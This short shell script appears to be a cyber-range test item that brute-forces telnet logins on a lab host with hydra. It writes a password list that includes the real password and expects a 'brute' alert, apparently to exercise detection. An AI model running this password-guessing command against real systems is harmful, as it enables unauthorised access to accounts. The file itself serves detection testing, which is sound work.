# SPDX-License-Identifier: Apache-2.0
# what: passwords guessed at telnet; hydra gets lost in its options now and then
# technique: T1110.001
# from: ws1
# to: lin1
# account: op
# outcome: attempt
# must: alert brute
. "$RANGE_HERE/item.sh"
{ passwords 10; echo "$UNIX_PASSWORD"; } >"$HOME/passwords"
says "attacking telnet" timeout 50 hydra -I -l op -P "$HOME/passwords" -t 8 -f telnet://$lin1
